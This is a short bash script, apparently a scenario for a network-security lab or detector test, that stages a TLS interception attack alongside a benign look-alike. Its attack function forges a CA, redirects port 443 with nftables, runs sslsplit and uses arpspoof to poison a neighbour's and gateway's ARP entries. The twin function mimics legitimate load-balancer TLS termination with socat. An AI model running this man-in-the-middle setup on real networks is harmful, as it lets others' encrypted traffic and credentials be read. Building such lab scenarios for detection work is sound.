#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# sslsplit ends a neighbour's TLS and opens it anew, from a position taken with arpspoof.
# Twin: the provider's load balancer does so for its customers.
set -u
# shellcheck source-path=SCRIPTDIR source=site.sh
. "$(dirname "$0")/site.sh"

visit() { # HOST ADDRESS TIMES
	for ((i = 0; i < $3; i++)); do
		lab_in "$1" curl -ks -m 3 -o /dev/null --resolve "portal.example:443:$2" \
			https://portal.example/
		sleep 0.3
	done
}

twin() {
	site_tls core 192.0.2.80:443
	lab_start edge "$LAB_DIR/tool.log" socat \
		"OPENSSL-LISTEN:443,fork,reuseaddr,cert=$LAB_DIR/tls.pem,key=$LAB_DIR/tls.key,verify=0" \
		OPENSSL:192.0.2.80:443,verify=0,snihost=portal.example
	sleep 1
	visit o1 10.211.3.9 6
	visit p1 10.211.3.9 4
}

attack() {
	site_tls core 192.0.2.80:443
	openssl req -x509 -newkey rsa:2048 -nodes -days 9 -subj "/CN=any" \
		-keyout "$LAB_DIR/ca.key" -out "$LAB_DIR/ca.pem" 2>/dev/null
	site_router_on q1
	lab_in q1 nft "add table ip n; add chain ip n p { type nat hook prerouting priority -100; };
		add rule ip n p iifname eth0 tcp dport 443 redirect to :8443"
	lab_start q1 "$LAB_DIR/tool.log" sslsplit -D -k "$LAB_DIR/ca.key" -c "$LAB_DIR/ca.pem" \
		https 0.0.0.0 8443
	lab_start o1 /dev/null ping -q -i 0.5 192.0.2.80
	sleep 1
	lab_start q1 "$LAB_DIR/tool2.log" arpspoof -i eth0 -t 10.211.3.31 -r 10.211.3.1
	sleep 3
	visit o1 192.0.2.80 8
	site_await 5 spoof.arp relay.intercept
}

site_run sslsplit mesa span arpspoof sslsplit nft openssl socat
